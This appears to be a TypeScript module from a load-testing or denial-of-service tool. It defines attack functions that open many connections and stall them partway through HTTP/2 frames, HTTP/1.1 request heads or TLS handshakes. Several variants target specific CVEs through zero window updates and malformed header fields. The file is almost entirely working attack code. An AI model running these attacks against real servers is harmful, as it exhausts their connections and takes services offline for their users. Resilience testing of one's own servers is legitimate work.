import { type Attack, connect, count, openSession, repeat } from './caller.ts'
import { endHeaders, fields, frame, request, windowUpdate } from './frames.ts'

const lanes = 20
const maximumConnections = 1_500

/** Sessions that stop in the middle of a frame and stay open. */
function sessions(piece: Buffer): Attack {
  return async (caller) => {
    let left = maximumConnections * caller.strength
    await repeat(caller, lanes, 20, async () => {
      if (left-- <= 0) return
      const socket = await openSession(caller)
      socket?.write(piece)
    })
  }
}

export const headersWithoutEnd = sessions(frame('headers', 0, 1, request('POST', '/sync')))
export const cutFrame = sessions(
  frame('headers', endHeaders, 1, request('POST', '/').subarray(0, 9), 100),
)
export const connectMethod = sessions(
  frame('headers', endHeaders, 1, fields({ ':method': 'CONNECT', ':authority': 'h:1' })),
)
/** CVE-2026-21714: an impossible window of the session. */
export const windowOverflow = sessions(windowUpdate(0))
/** CVE-2025-59465: malformed header fields. */
export const brokenFields = sessions(frame('headers', endHeaders, 1, Buffer.alloc(200, 0xff)))

/** Connections that stop inside the request head or, with TLS, inside the handshake. */
export const stoppedConnections: Attack = async (caller) => {
  let left = maximumConnections * caller.strength
  const hello = Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3])
  const piece = caller.protocol === 'HTTP/1.1' ? Buffer.from('POST /sync HTTP/1.1\r\nHo') : hello
  await repeat(caller, lanes, 20, async () => {
    if (left-- <= 0) return
    const socket = await connect(caller, true)
    socket?.resume().write(piece)
    if (socket) count(caller, 'connections')
  })
}
